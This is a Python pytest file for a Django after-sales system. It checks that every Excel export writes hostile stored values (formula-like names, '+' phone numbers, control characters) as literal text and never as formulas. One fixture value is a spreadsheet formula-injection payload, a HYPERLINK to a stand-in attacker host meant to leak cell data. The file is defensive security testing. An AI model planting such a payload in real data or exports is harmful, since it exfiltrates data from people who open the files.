"""Every Excel export endpoint, walked with hostile stored values (issue 9 defect 5).

The walk finds the export routes in the URL configuration itself, so a new export that is not listed in
EXPORTS fails `test_the_walk_knows_every_export_endpoint` until it is added here, with data that reaches it.
Each export is then downloaded with a customer named like a formula (`=HYPERLINK(…)`), a phone number that
starts with "+", and a vertical tab (`\\x0b`, which openpyxl refuses) in stored text: the download must
succeed, every such value must come back as literal text (string cell, Excel's quote prefix), and no cell
of any sheet may be a formula or an error value.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.urls import URLResolver, get_resolver

from aftersales.core import clock, xlsx
from aftersales.vehicles.registers import REGISTERS

pytestmark = pytest.mark.django_db

NOW = dt.datetime(2026, 3, 2, 2, 0, tzinfo=dt.UTC)  # Monday 10:00 in China
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
PLUS_PHONE = "+86 138 0738 1234"
ADDRESS = "湖南省娄底市娄星区乐坪大道1号"
CONTROL_ADDRESS = ADDRESS + "\x0b3栋"
CONTROL_PERSON = ("\x0b明", "李")  # first, last name of the follow-up person
LOCATION = "=1+1 中心库"
CONTROL_PART = "电源模块\x0bPAC600S12"

# route in the URL configuration → (URLs that download it, the stored hostile texts each must show literally)
CUSTOMER_TEXTS = (FORMULA_NAME, PLUS_PHONE, CONTROL_ADDRESS)
EXPORTS: dict[str, tuple[tuple[str, tuple[str, ...]], ...]] = {
    "api/v1/customers/export.xlsx": (("/api/v1/customers/export.xlsx", CUSTOMER_TEXTS),),
    "api/v1/vehicles/registers/<name>.xlsx": (
        ("/api/v1/vehicles/registers/archive.xlsx", (*CUSTOMER_TEXTS, "李\x0b明")),
        ("/api/v1/vehicles/registers/calls.xlsx", (FORMULA_NAME, PLUS_PHONE, "=1+1\x0b", "李\x0b明")),
        ("/api/v1/vehicles/registers/call-register.xlsx", (FORMULA_NAME, PLUS_PHONE, "李\x0b明")),
        ("/api/v1/vehicles/registers/letters.xlsx", (FORMULA_NAME, CONTROL_ADDRESS, "@通知", "李\x0b明")),
    ),
    "parts/reorder/export.xlsx": (("/parts/reorder/export.xlsx", (LOCATION, CONTROL_PART)),),
}
DOWNLOADS = [pytest.param(url, texts, id=url) for urls in EXPORTS.values() for url, texts in urls]
# Exports of the management view and the subsidy ledger (issues 11, 12): written by `xlsx.StreamingWorkbook` or
# `xlsx.Workbook` (the one-writer test below holds them to it), whose hostile-text rules are tested in
# test_xlsx.py for both writers; each download is tested in its own area (reports, subsidy). Not yet walked
# here with hostile stored values.
WALKED_ELSEWHERE = {
    "api/v1/subsidy/ledger.xlsx",
    "subsidy/ledger.xlsx",
    "reports/assessment.xlsx",
    "reports/periodic/<int:report_id>/report.xlsx",
}


def export_routes() -> set[str]:
    """Every route of the URL configuration that serves an Excel file (by its name: …xlsx)."""

    def walk(patterns, prefix=""):
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, route)
            else:
                yield route

    return {route for route in walk(get_resolver().url_patterns) if "xlsx" in route.lower()}


def test_the_walk_knows_every_export_endpoint():
    assert export_routes() == set(EXPORTS) | WALKED_ELSEWHERE
    assert {url.rsplit("/", 1)[1] for url, _ in EXPORTS["api/v1/vehicles/registers/<name>.xlsx"]} == {
        f"{name}.xlsx" for name in REGISTERS
    }


@pytest.fixture
def hostile(make_user, agent):
    """Data that reaches every export, with formula-like and control characters in what is stored.

    Created through the services; what the services may refuse as input (a control character) is then
    written straight to the rows, as old data or another program could have left it.
    """
    from aftersales.accounts.models import User
    from aftersales.customers import services as customers
    from aftersales.customers.models import Customer
    from aftersales.parts import services as parts
    from aftersales.parts.models import Part
    from aftersales.vehicles import services as vehicles
    from aftersales.vehicles.models import FollowUpCall

    admin = make_user("export-admin", "admin", is_staff=True, is_superuser=True)
    follower = make_user("liming", "callback", first_name="明", last_name="李")
    with clock.frozen(NOW):
        customer = customers.customer_create(
            actor=agent, name=FORMULA_NAME, kind="person", address=ADDRESS, phone="13807381234"
        )
        Customer.objects.filter(pk=customer.pk).update(address=CONTROL_ADDRESS, phone=PLUS_PHONE)
        User.objects.filter(pk=follower.pk).update(first_name=CONTROL_PERSON[0])
        follower.refresh_from_db()
        vehicle = vehicles.vehicle_create(
            actor=agent,
            customer_id=customer.pk,
            plate="湘K12345",
            model="别克英朗 1.5L",
            purchased_on=dt.date(2025, 9, 1),
            follow_up_user_id=follower.pk,
        )
        call = vehicles.follow_up_call_record(
            actor=follower, purpose="inbound_consultation", customer_id=customer.pk, content="=1+1"
        )
        FollowUpCall.objects.filter(pk=call.pk).update(content="=1+1\x0b")
        vehicles.letter_record(
            actor=follower, customer_id=customer.pk, vehicle_id=vehicle.pk, kind="notice", subject="@通知"
        )
        location = parts.location_create(actor=admin, name=LOCATION)
        part = parts.part_create(actor=admin, part_number="02310XYZ", name="电源模块", unit_cost_amount="880.00")
        parts.part_receive(actor=admin, part_id=part.pk, location_id=location.pk, quantity=1)
        parts.stock_set_reorder(
            actor=admin, part_id=part.pk, location_id=location.pk, reorder_point=3, reorder_quantity=6
        )
        Part.objects.filter(pk=part.pk).update(name=CONTROL_PART)
    return admin


def cells_of(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize(("url", "texts"), DOWNLOADS)
def test_every_export_writes_hostile_values_as_literal_text(client, hostile, url, texts):
    client.force_login(hostile)
    with clock.frozen(NOW):
        response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == xlsx.XLSX_CONTENT_TYPE
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets
    assert [sheet for sheet in sheets if "<f>" in sheet] == []
    cells = cells_of(response.content)
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in texts:
        shown = xlsx.clean_text(text)
        assert shown in by_value, repr(sorted(by_value))
        cell = by_value[shown]
        assert (cell.data_type, cell.quotePrefix) == ("s", xlsx.looks_like_formula(shown))
